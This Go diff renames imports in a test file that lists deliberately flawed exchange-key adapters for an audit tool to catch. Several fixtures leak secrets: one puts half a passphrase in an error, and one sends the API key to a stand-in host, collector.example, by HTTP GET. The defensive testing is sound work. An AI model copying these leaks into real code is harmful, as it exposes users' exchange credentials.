@@ -13,7 +13,8 @@ import (
 
 	"github.com/stretchr/testify/assert"
 
-	"github.com/exchangekeyaudit/exchangekeyaudit/audit"
+	"github.com/exchangekeyaudit/exchangekeyaudit/audit/access"
+	"github.com/exchangekeyaudit/exchangekeyaudit/audit/adapter"
 	"github.com/exchangekeyaudit/exchangekeyaudit/exchanges/internal/wire"
 )
 
@@ -22,70 +23,70 @@ type flaw struct {
 	name, property string
 	only           bool // no other property sees it
 	steps          func(*steps)
-	adapter        func(*audit.Exchange)
+	adapter        func(*adapter.Exchange)
 	fake           func(*definition)
 }
 
 // after changes what the adapter found.
-func after(f func(*audit.Snapshot)) func(*steps) {
-	return func(do *steps) { do.after = func(_ *audit.Session, s *audit.Snapshot) { f(s) } }
+func after(f func(*access.Snapshot)) func(*steps) {
+	return func(do *steps) { do.after = func(_ *adapter.Session, s *access.Snapshot) { f(s) } }
 }
 
 // misread changes what the adapter makes of a refusal.
-func misread(f func(*audit.Error)) func(*steps) {
+func misread(f func(*access.Error)) func(*steps) {
 	return func(do *steps) {
-		do.refusal = func(_ *audit.Session, err *audit.Error) error { f(err); return err }
+		do.refusal = func(_ *adapter.Session, err *access.Error) error { f(err); return err }
 	}
 }
 
 // stated is an adapter that makes this of the word for the key's state.
-func stated(f func(word string, told bool) audit.KeyState) func(*steps) {
+func stated(f func(word string, told bool) access.KeyState) func(*steps) {
 	return func(do *steps) {
-		do.state = func(account wire.Object) audit.KeyState { return f(account.Text("state")) }
+		do.state = func(account wire.Object) access.KeyState { return f(account.Text("state")) }
 	}
 }
 
 // wrapped puts something around the adapter's Inspect.
-func wrapped(f func(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error)) func(*audit.Exchange) {
-	return func(e *audit.Exchange) {
+func wrapped(f func(ctx context.Context, s *adapter.Session, next inspect) (*access.Snapshot, error)) func(*adapter.Exchange) {
+	return func(e *adapter.Exchange) {
 		next := e.Inspect
-		e.Inspect = func(ctx context.Context, s *audit.Session) (*audit.Snapshot, error) { return f(ctx, s, next) }
+		e.Inspect = func(ctx context.Context, s *adapter.Session) (*access.Snapshot, error) { return f(ctx, s, next) }
 	}
 }
 
-type inspect = func(context.Context, *audit.Session) (*audit.Snapshot, error)
+type inspect = func(context.Context, *adapter.Session) (*access.Snapshot, error)
 
-func setGrant(s *audit.Snapshot, capability audit.Capability, state audit.State) {
+func setGrant(s *access.Snapshot, capability access.Capability, state access.State) {
 	for i := range s.Grants {
 		if s.Grants[i].Capability == capability {
 			s.Grants[i].State = state
 			return
 		}
 	}
-	s.Grants = append(s.Grants, audit.Grant{Capability: capability, State: state, Evidence: audit.Told})
+	s.Grants = append(s.Grants, access.Grant{Capability: capability, State: state, Evidence: access.Told})
 }
 
 // optimist takes whatever it can't read for a key without rights.
-func optimist(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error) {
+func optimist(ctx context.Context, s *adapter.Session, next inspect) (*access.Snapshot, error) {
 	found, err := next(ctx, s)
-	if errors.Is(err, audit.KindNotUnderstood) {
-		found, err = &audit.Snapshot{}, nil
-		setGrant(found, audit.Withdraw, audit.Denied)
+	if errors.Is(err, access.KindNotUnderstood) {
+		found, err = &access.Snapshot{}, nil
+		setGrant(found, access.Withdraw, access.Denied)
 	}
 	return found, err
 }
 
 var flaws = []flaw{
-	{name: "no documentation", property: "descriptor", adapter: func(e *audit.Exchange) { e.Docs = "" }},
-	{name: "a call without a reason", property: "descriptor", adapter: func(e *audit.Exchange) { e.Calls[0].Why = "" }},
-	{name: "a call that writes", property: "descriptor", adapter: func(e *audit.Exchange) { e.Calls[0].Method = http.MethodDelete }},
-	{name: "a call the fake doesn't have", property: "descriptor", adapter: func(e *audit.Exchange) {
-		e.Calls = append(e.Calls, audit.Call{Method: "GET", Path: "/old", Why: "history", When: "never"})
+	{name: "no documentation", property: "descriptor", adapter: func(e *adapter.Exchange) { e.Docs = "" }},
+	{name: "a call without a reason", property: "descriptor", adapter: func(e *adapter.Exchange) { e.Calls[0].Why = "" }},
+	{name: "a call that writes", property: "descriptor", adapter: func(e *adapter.Exchange) { e.Calls[0].Method = http.MethodDelete }},
+	{name: "a call the fake doesn't have", property: "descriptor", adapter: func(e *adapter.Exchange) {
+		e.Calls = append(e.Calls, adapter.Call{Method: "GET", Path: "/old", Why: "history", When: "never"})
 	}},
-	{name: "plain http", property: "descriptor", adapter: func(e *audit.Exchange) { e.Environments[0].URLs[0] = "http://api.reference.example" }},
-	{name: "a host the fake doesn't know", property: "descriptor", adapter: func(e *audit.Exchange) { e.Environments[1].URLs[0] = "https://other.example" }},
+	{name: "plain http", property: "descriptor", adapter: func(e *adapter.Exchange) { e.Environments[0].URLs[0] = "http://api.reference.example" }},
+	{name: "a host the fake doesn't know", property: "descriptor", adapter: func(e *adapter.Exchange) { e.Environments[1].URLs[0] = "https://other.example" }},
 	{name: "a host no environment has", property: "descriptor", fake: func(d *definition) { d.hosts = append(d.hosts, "forgotten.example") }},
-	{name: "a kind of key nobody can test", property: "descriptor", adapter: func(e *audit.Exchange) { e.Needs.Kinds = append(e.Needs.Kinds, audit.RSAKey) }},
+	{name: "a kind of key nobody can test", property: "descriptor", adapter: func(e *adapter.Exchange) { e.Needs.Kinds = append(e.Needs.Kinds, access.RSAKey) }},
 
 	{name: "a fake that signs otherwise than documented", property: "vectors", fake: func(d *definition) { d.vectors[0].Header["X-Time"] = "1776149990533" }},
 	{name: "a fake without vectors", property: "vectors", fake: func(d *definition) { d.vectors = nil }},
@@ -116,12 +117,12 @@ var flaws = []flaw{
 		do.text = func(stamp, key, host, path string) string { return key + stamp + host + path }
 	}},
 
-	{name: "an undeclared call", property: "guard", adapter: func(e *audit.Exchange) { e.Calls = e.Calls[1:] }},
-	{name: "a call made twice", property: "guard", adapter: wrapped(func(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error) {
+	{name: "an undeclared call", property: "guard", adapter: func(e *adapter.Exchange) { e.Calls = e.Calls[1:] }},
+	{name: "a call made twice", property: "guard", adapter: wrapped(func(ctx context.Context, s *adapter.Session, next inspect) (*access.Snapshot, error) {
 		_, _ = next(ctx, s)
 		return next(ctx, s)
 	})},
-	{name: "a call declared and not made", property: "guard", adapter: func(e *audit.Exchange) { e.Calls[2].When = "" }},
+	{name: "a call declared and not made", property: "guard", adapter: func(e *adapter.Exchange) { e.Calls[2].When = "" }},
 
 	{name: "always the first host", property: "environments", steps: func(do *steps) {
 		do.text = func(stamp, key, _, path string) string { return stamp + key + "api.reference.example" + path }
@@ -137,17 +138,17 @@ var flaws = []flaw{
 		}
 	}},
 
-	{name: "the guard's refusal hidden", property: "redirect", steps: misread(func(err *audit.Error) {
-		if err.Kind == audit.KindGuard {
-			err.Kind = audit.KindUnavailable
+	{name: "the guard's refusal hidden", property: "redirect", steps: misread(func(err *access.Error) {
+		if err.Kind == access.KindGuard {
+			err.Kind = access.KindUnavailable
 		}
 	})},
 
-	{name: "another label", property: "answers", steps: after(func(s *audit.Snapshot) { s.Label += "!" })},
+	{name: "another label", property: "answers", steps: after(func(s *access.Snapshot) { s.Label += "!" })},
 
-	{name: "another order each time", property: "answers", adapter: func(e *audit.Exchange) {
+	{name: "another order each time", property: "answers", adapter: func(e *adapter.Exchange) {
 		var turn atomic.Int64
-		wrapped(func(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error) {
+		wrapped(func(ctx context.Context, s *adapter.Session, next inspect) (*access.Snapshot, error) {
 			found, err := next(ctx, s)
 			if err == nil && turn.Add(1)%3 == 0 {
 				found.Notes = []string{"b", "a"}
@@ -156,56 +157,56 @@ var flaws = []flaw{
 		})(e)
 	}},
 
-	{name: "seconds for milliseconds", property: "round-trip", steps: after(func(s *audit.Snapshot) { s.Created = time.Unix(s.Created.UnixMilli(), 0) })},
-	{name: "* not seen as open", property: "round-trip", steps: after(func(s *audit.Snapshot) { s.IPAllowlist.State = audit.AllowlistRestricted })},
-	{name: "a wrong capability", property: "round-trip", steps: after(func(s *audit.Snapshot) {
-		setGrant(s, audit.Withdraw, s.Grant(audit.TradeFutures).State)
+	{name: "seconds for milliseconds", property: "round-trip", steps: after(func(s *access.Snapshot) { s.Created = time.Unix(s.Created.UnixMilli(), 0) })},
+	{name: "* not seen as open", property: "round-trip", steps: after(func(s *access.Snapshot) { s.IPAllowlist.State = access.AllowlistRestricted })},
+	{name: "a wrong capability", property: "round-trip", steps: after(func(s *access.Snapshot) {
+		setGrant(s, access.Withdraw, s.Grant(access.TradeFutures).State)
 	})},
 	{
-		name: "what a key may hold read as denied", property: "round-trip", steps: after(func(s *audit.Snapshot) { setGrant(s, audit.TradeMargin, audit.Denied) }),
-		adapter: func(e *audit.Exchange) { e.Coverage.Tells = append(e.Coverage.Tells, audit.TradeMargin) },
+		name: "what a key may hold read as denied", property: "round-trip", steps: after(func(s *access.Snapshot) { setGrant(s, access.TradeMargin, access.Denied) }),
+		adapter: func(e *adapter.Exchange) { e.Coverage.Tells = append(e.Coverage.Tells, access.TradeMargin) },
 		fake: func(d *definition) {
-			d.perhaps = map[string][]audit.Capability{"spot.trade": {audit.TradeMargin}}
+			d.perhaps = map[string][]access.Capability{"spot.trade": {access.TradeMargin}}
 		},
 	},
-	{name: "a right not granted", property: "round-trip", steps: after(func(s *audit.Snapshot) { setGrant(s, audit.TradeSpot, audit.Unknown) })},
-	{name: "a sub-account taken for a main one", property: "round-trip", steps: after(func(s *audit.Snapshot) { s.Account.Kind = audit.MainAccount })},
-	{name: "the expiry dropped", property: "round-trip", steps: after(func(s *audit.Snapshot) { s.Expires = time.Time{} })},
+	{name: "a right not granted", property: "round-trip", steps: after(func(s *access.Snapshot) { setGrant(s, access.TradeSpot, access.Unknown) })},
+	{name: "a sub-account taken for a main one", property: "round-trip", steps: after(func(s *access.Snapshot) { s.Account.Kind = access.MainAccount })},
+	{name: "the expiry dropped", property: "round-trip", steps: after(func(s *access.Snapshot) { s.Expires = time.Time{} })},
 
-	{name: "a promise not kept", property: "coverage", adapter: func(e *audit.Exchange) { e.Coverage.LastUsed = audit.Sometimes }},
-	{name: "a fact not promised", property: "coverage", adapter: func(e *audit.Exchange) { e.Coverage.Created = audit.Never }},
-	{name: "a capability that no key has", property: "coverage", adapter: func(e *audit.Exchange) {
-		e.Coverage.Tells = append(e.Coverage.Tells, audit.TradeOptions)
+	{name: "a promise not kept", property: "coverage", adapter: func(e *adapter.Exchange) { e.Coverage.LastUsed = adapter.Sometimes }},
+	{name: "a fact not promised", property: "coverage", adapter: func(e *adapter.Exchange) { e.Coverage.Created = adapter.Never }},
+	{name: "a capability that no key has", property: "coverage", adapter: func(e *adapter.Exchange) {
+		e.Coverage.Tells = append(e.Coverage.Tells, access.TradeOptions)
 	}},
 
 	{name: "one algorithm for all", property: "key-kinds", steps: func(do *steps) {
-		do.algorithm = func(audit.KeyKind) audit.Algorithm { return audit.HMACSHA256 }
+		do.algorithm = func(access.KeyKind) adapter.Algorithm { return adapter.HMACSHA256 }
 	}},
 
-	{name: "unknown names dropped", property: "unknown-permission", steps: after(func(s *audit.Snapshot) { s.Unmapped = nil })},
-	{name: "unknown names taken for a right", property: "unknown-permission", steps: after(func(s *audit.Snapshot) {
+	{name: "unknown names dropped", property: "unknown-permission", steps: after(func(s *access.Snapshot) { s.Unmapped = nil })},
+	{name: "unknown names taken for a right", property: "unknown-permission", steps: after(func(s *access.Snapshot) {
 		if len(s.Unmapped) > 0 {
-			setGrant(s, audit.TradeFutures, audit.Denied)
+			setGrant(s, access.TradeFutures, access.Denied)
 			s.Notes = append(s.Notes, "odd")
 		}
 	})},
 
-	{name: "a missing field read as denied", property: "missing-field", steps: after(func(s *audit.Snapshot) {
-		if s.Grant(audit.Withdraw).State == audit.Unknown {
-			setGrant(s, audit.Withdraw, audit.Denied)
+	{name: "a missing field read as denied", property: "missing-field", steps: after(func(s *access.Snapshot) {
+		if s.Grant(access.Withdraw).State == access.Unknown {
+			setGrant(s, access.Withdraw, access.Denied)
 		}
 	})},
-	{name: "a missing field read as bound", property: "missing-field", steps: after(func(s *audit.Snapshot) {
-		if s.IPAllowlist.State == audit.AllowlistUnknown {
-			s.IPAllowlist.State = audit.AllowlistRestricted
+	{name: "a missing field read as bound", property: "missing-field", steps: after(func(s *access.Snapshot) {
+		if s.IPAllowlist.State == access.AllowlistUnknown {
+			s.IPAllowlist.State = access.AllowlistRestricted
 		}
 	})},
-	{name: "a missing field read as a sub-account", property: "missing-field", steps: after(func(s *audit.Snapshot) {
-		if s.Account.Kind == audit.AccountUnknown {
-			s.Account.Kind = audit.SubAccount
+	{name: "a missing field read as a sub-account", property: "missing-field", steps: after(func(s *access.Snapshot) {
+		if s.Account.Kind == access.AccountUnknown {
+			s.Account.Kind = access.SubAccount
 		}
 	})},
-	{name: "a missing date read as today", property: "missing-field", steps: after(func(s *audit.Snapshot) {
+	{name: "a missing date read as today", property: "missing-field", steps: after(func(s *access.Snapshot) {
 		if s.Created.IsZero() {
 			s.Created = noon
 		}
@@ -225,85 +226,85 @@ var flaws = []flaw{
 		}
 	}},
 
-	{name: "every state but the known bad one taken for active", property: "unknown-state", only: true, steps: stated(func(word string, _ bool) audit.KeyState {
-		return map[bool]audit.KeyState{true: audit.KeyDisabled, false: audit.KeyActive}[word == "off"]
+	{name: "every state but the known bad one taken for active", property: "unknown-state", only: true, steps: stated(func(word string, _ bool) access.KeyState {
+		return map[bool]access.KeyState{true: access.KeyDisabled, false: access.KeyActive}[word == "off"]
 	})},
-	{name: "a state in another case taken for the known one", property: "unknown-state", only: true, steps: stated(func(word string, _ bool) audit.KeyState {
-		return map[bool]audit.KeyState{true: audit.KeyActive, false: audit.KeyUnclear}[strings.EqualFold(word, "on")]
+	{name: "a state in another case taken for the known one", property: "unknown-state", only: true, steps: stated(func(word string, _ bool) access.KeyState {
+		return map[bool]access.KeyState{true: access.KeyActive, false: access.KeyUnclear}[strings.EqualFold(word, "on")]
 	})},
-	{name: "a state of null taken for a good one", property: "unknown-state", only: true, steps: stated(func(word string, told bool) audit.KeyState {
-		return map[bool]audit.KeyState{true: audit.KeyActive, false: audit.KeyUnclear}[word == "on" || !told]
+	{name: "a state of null taken for a good one", property: "unknown-state", only: true, steps: stated(func(word string, told bool) access.KeyState {
+		return map[bool]access.KeyState{true: access.KeyActive, false: access.KeyUnclear}[word == "on" || !told]
 	})},
-	{name: "the state not read", property: "unknown-state", only: true, steps: stated(func(string, bool) audit.KeyState { return audit.KeyStateUnknown })},
+	{name: "the state not read", property: "unknown-state", only: true, steps: stated(func(string, bool) access.KeyState { return access.KeyStateUnknown })},
 
 	{name: "another type read as none", property: "wrong-type", adapter: wrapped(optimist)},
 	{name: "half an answer taken for one", property: "truncated", adapter: wrapped(optimist)},
 	{name: "any answer taken for one", property: "garbage", adapter: wrapped(optimist)},
-	{name: "a proxy's refusal taken for the venue's", property: "garbage", steps: misread(func(err *audit.Error) {
+	{name: "a proxy's refusal taken for the venue's", property: "garbage", steps: misread(func(err *access.Error) {
 		if err.Status == http.StatusForbidden {
-			err.Kind = audit.KindIPNotAllowed
+			err.Kind = access.KindIPNotAllowed
 		}
 	})},
 	{name: "a panic", property: "garbage", steps: func(do *steps) {
 		do.decode = func(body []byte) (wire.Object, error) { _ = body[1]; return wire.Parse(body) }
 	}},
 
-	{name: "an error code off by one", property: "failures", steps: misread(func(err *audit.Error) {
+	{name: "an error code off by one", property: "failures", steps: misread(func(err *access.Error) {
 		if err.Code == "bad_key" {
-			err.Kind = audit.KindBadSignature
+			err.Kind = access.KindBadSignature
 		}
 	})},
-	{name: "the answer's code ignored", property: "failures", adapter: wrapped(func(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error) {
+	{name: "the answer's code ignored", property: "failures", adapter: wrapped(func(ctx context.Context, s *adapter.Session, next inspect) (*access.Snapshot, error) {
 		found, err := next(ctx, s)
-		if e := (*audit.Error)(nil); errors.As(err, &e) && e.Status == http.StatusOK {
-			return &audit.Snapshot{}, nil
+		if e := (*access.Error)(nil); errors.As(err, &e) && e.Status == http.StatusOK {
+			return &access.Snapshot{}, nil
 		}
 		return found, err
 	})},
-	{name: "the status lost", property: "failures", steps: misread(func(err *audit.Error) { err.Status = 0 })},
-	{name: "the candidates lost", property: "failures", steps: misread(func(err *audit.Error) { err.Candidates = nil })},
+	{name: "the status lost", property: "failures", steps: misread(func(err *access.Error) { err.Status = 0 })},
+	{name: "the candidates lost", property: "failures", steps: misread(func(err *access.Error) { err.Candidates = nil })},
 	{name: "retries by itself", property: "failures", steps: func(do *steps) { do.tries = 3 }},
 
-	{name: "an unknown code explained away", property: "undocumented", steps: misread(func(err *audit.Error) {
-		if err.Kind == audit.KindNotUnderstood {
-			err.Kind = audit.KindBadKey
+	{name: "an unknown code explained away", property: "undocumented", steps: misread(func(err *access.Error) {
+		if err.Kind == access.KindNotUnderstood {
+			err.Kind = access.KindBadKey
 		}
 	})},
 	{name: "a refusal without a code taken for an answer", property: "undocumented", adapter: wrapped(optimist)},
-	{name: "the code lost", property: "undocumented", steps: misread(func(err *audit.Error) {
-		if err.Kind == audit.KindNotUnderstood {
+	{name: "the code lost", property: "undocumented", steps: misread(func(err *access.Error) {
+		if err.Kind == access.KindNotUnderstood {
 			err.Code = ""
 		}
 	})},
 
-	{name: "an overload taken for a wrong key", property: "transport", steps: misread(func(err *audit.Error) {
-		if err.Kind == audit.KindUnavailable {
-			err.Kind = audit.KindBadKey
+	{name: "an overload taken for a wrong key", property: "transport", steps: misread(func(err *access.Error) {
+		if err.Kind == access.KindUnavailable {
+			err.Kind = access.KindBadKey
 		}
 	})},
 	{name: "retries a broken connection by itself", property: "transport", steps: func(do *steps) { do.tries = 2 }},
 
-	{name: "a wrong clock of the venue", property: "clock", adapter: func(e *audit.Exchange) {
-		e.ServerTime = func(context.Context, *audit.Session) (time.Time, error) { return noon.Add(-day), nil }
+	{name: "a wrong clock of the venue", property: "clock", adapter: func(e *adapter.Exchange) {
+		e.ServerTime = func(context.Context, *adapter.Session) (time.Time, error) { return noon.Add(-day), nil }
 	}},
 
 	{name: "half the secret in the error", property: "secrecy", steps: func(do *steps) {
-		do.refusal = func(s *audit.Session, err *audit.Error) error {
+		do.refusal = func(s *adapter.Session, err *access.Error) error {
 			err.Message = "with " + s.Passphrase()[:len(s.Passphrase())/2]
 			return err
 		}
 	}},
-	{name: "the signature in the error", property: "secrecy", adapter: wrapped(func(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error) {
+	{name: "the signature in the error", property: "secrecy", adapter: wrapped(func(ctx context.Context, s *adapter.Session, next inspect) (*access.Snapshot, error) {
 		found, err := next(ctx, s)
-		if e := (*audit.Error)(nil); errors.As(err, &e) {
-			signature, _ := s.Sign(ctx, audit.HMACSHA256, "x")
+		if e := (*access.Error)(nil); errors.As(err, &e) {
+			signature, _ := s.Sign(ctx, adapter.HMACSHA256, "x")
 			e.Message = base64.StdEncoding.EncodeToString(append([]byte("sign:"), signature...))
 		}
 		return found, err
 	})},
 	{name: "the passphrase in the snapshot", property: "secrecy", steps: func(do *steps) {
-		do.after = func(s *audit.Session, found *audit.Snapshot) {
-			found.Facts = append(found.Facts, audit.Fact{Name: "x", Value: strings.ToUpper(hexed(s.Passphrase()[:20]))})
+		do.after = func(s *adapter.Session, found *access.Snapshot) {
+			found.Facts = append(found.Facts, access.Fact{Name: "x", Value: strings.ToUpper(hexed(s.Passphrase()[:20]))})
 		}
 	}},
 
@@ -313,15 +314,15 @@ var flaws = []flaw{
 	{name: "signs without the context", property: "cancel", steps: func(do *steps) {
 		do.signing = func(context.Context) context.Context { return context.Background() }
 	}},
-	{name: "sleeps", property: "cancel", adapter: wrapped(func(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error) {
+	{name: "sleeps", property: "cancel", adapter: wrapped(func(ctx context.Context, s *adapter.Session, next inspect) (*access.Snapshot, error) {
 		found, err := next(ctx, s)
 		time.Sleep(10 * time.Second)
 		return found, err
 	})},
 
-	{name: "shares what it found", property: "parallel", adapter: func(e *audit.Exchange) {
+	{name: "shares what it found", property: "parallel", adapter: func(e *adapter.Exchange) {
 		var latest atomic.Pointer[string] // no race, and wrong all the same
-		wrapped(func(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error) {
+		wrapped(func(ctx context.Context, s *adapter.Session, next inspect) (*access.Snapshot, error) {
 			key := s.Key()
 			latest.Store(&key)
 			found, err := next(ctx, s)
@@ -332,7 +333,7 @@ var flaws = []flaw{
 		})(e)
 	}},
 
-	{name: "goes past the session", property: "no-bypass", adapter: wrapped(func(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error) {
+	{name: "goes past the session", property: "no-bypass", adapter: wrapped(func(ctx context.Context, s *adapter.Session, next inspect) (*access.Snapshot, error) {
 		if resp, err := http.Get("https://collector.example/?key=" + s.Key()); err == nil {
 			_ = resp.Body.Close()
 		}
